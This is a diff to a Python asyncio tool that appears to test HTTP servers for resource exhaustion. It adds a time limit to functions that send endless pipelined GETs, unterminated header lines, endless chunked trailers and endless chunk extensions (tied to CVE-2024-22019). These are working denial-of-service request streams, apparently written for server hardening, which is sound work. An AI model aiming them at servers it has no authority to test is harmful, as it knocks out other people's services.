@@ -221,7 +221,7 @@ class Outcome:
     bytes_in: int
     #: Why the attack ended: ``answered`` (the server answered: a 4xx), ``stalled``
     #: (it stopped reading), ``closed`` (it closed or reset the connection), or
-    #: ``cap`` (it took everything).
+    #: ``cap`` (it took everything), or ``time up`` (``end_at`` came first).
     ended: str
     #: The first bytes the server answered, if any (a status line).
     answer: bytes = b""
@@ -234,6 +234,7 @@ async def push(
     cap: int,
     stall_timeout: float,
     until_answered: bool = True,
+    end_at: float | None = None,
 ) -> Outcome:
     """Send pieces until the server answers, stops taking them, closes, or ``cap`` bytes went.
 
@@ -244,8 +245,13 @@ async def push(
     sent = 0
     async for piece in pieces:
         try:
-            await asyncio.wait_for(loop.sock_sendall(sock, piece), stall_timeout)
+            wait = stall_timeout
+            if end_at is not None:
+                wait = max(0.0, min(wait, end_at - time.monotonic()))
+            await asyncio.wait_for(loop.sock_sendall(sock, piece), wait)
         except TimeoutError:
+            if end_at is not None and time.monotonic() >= end_at:
+                return Outcome(sent, "time up", _peek(sock))
             return Outcome(sent, "stalled", _peek(sock))
         except OSError:
             return Outcome(sent, "closed", _peek(sock))
@@ -255,6 +261,8 @@ async def push(
             return Outcome(sent, "answered", answer)
         if sent >= cap:
             return Outcome(sent, "cap")
+        if end_at is not None and time.monotonic() >= end_at:
+            return Outcome(sent, "time up")
     return Outcome(sent, "cap")
 
 
@@ -280,36 +288,54 @@ PIPELINED_GETS = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 2048
 
 
 async def pipeline_never_read(
-    sock: socket.socket, *, cap: int, stall_timeout: float = 2.0
+    sock: socket.socket, *, cap: int, stall_timeout: float = 2.0, end_at: float | None = None
 ) -> Outcome:
     """#15 item 1: pipelined GETs as fast as possible; never read a response."""
     return await push(
-        sock, repeat(PIPELINED_GETS), cap=cap, stall_timeout=stall_timeout, until_answered=False
+        sock,
+        repeat(PIPELINED_GETS),
+        cap=cap,
+        stall_timeout=stall_timeout,
+        end_at=end_at,
+        until_answered=False,
     )
 
 
 async def endless_header_line(
-    sock: socket.socket, *, cap: int, stall_timeout: float = 2.0, name: bool = False
+    sock: socket.socket,
+    *,
+    cap: int,
+    stall_timeout: float = 2.0,
+    name: bool = False,
+    end_at: float | None = None,
 ) -> Outcome:
     """#15 item 2: a header line (its value, or with ``name`` its name) that never ends."""
     start = b"GET / HTTP/1.1\r\nHost: a\r\n" + (b"" if name else b"X-Long: ")
     fill = (b"n" if name else b"v") * 16384
-    return await push(sock, then_repeat(start, fill), cap=cap, stall_timeout=stall_timeout)
+    return await push(
+        sock, then_repeat(start, fill), cap=cap, stall_timeout=stall_timeout, end_at=end_at
+    )
 
 
-async def endless_trailer(sock: socket.socket, *, cap: int, stall_timeout: float = 2.0) -> Outcome:
+async def endless_trailer(
+    sock: socket.socket, *, cap: int, stall_timeout: float = 2.0, end_at: float | None = None
+) -> Outcome:
     """#15 item 2: a chunked body whose trailer section never ends."""
     start = b"POST /echo HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
     start += b"1\r\na\r\n0\r\nX-Trailer: "
-    return await push(sock, then_repeat(start, b"t" * 16384), cap=cap, stall_timeout=stall_timeout)
+    return await push(
+        sock, then_repeat(start, b"t" * 16384), cap=cap, stall_timeout=stall_timeout, end_at=end_at
+    )
 
 
 async def endless_chunk_extension(
-    sock: socket.socket, *, cap: int, stall_timeout: float = 2.0
+    sock: socket.socket, *, cap: int, stall_timeout: float = 2.0, end_at: float | None = None
 ) -> Outcome:
     """#15 item 8: a chunk-size line whose extension never ends (CVE-2024-22019)."""
     start = b"POST /echo HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;ext="
-    return await push(sock, then_repeat(start, b"e" * 16384), cap=cap, stall_timeout=stall_timeout)
+    return await push(
+        sock, then_repeat(start, b"e" * 16384), cap=cap, stall_timeout=stall_timeout, end_at=end_at
+    )
 
 
 MiB = 1024 * 1024
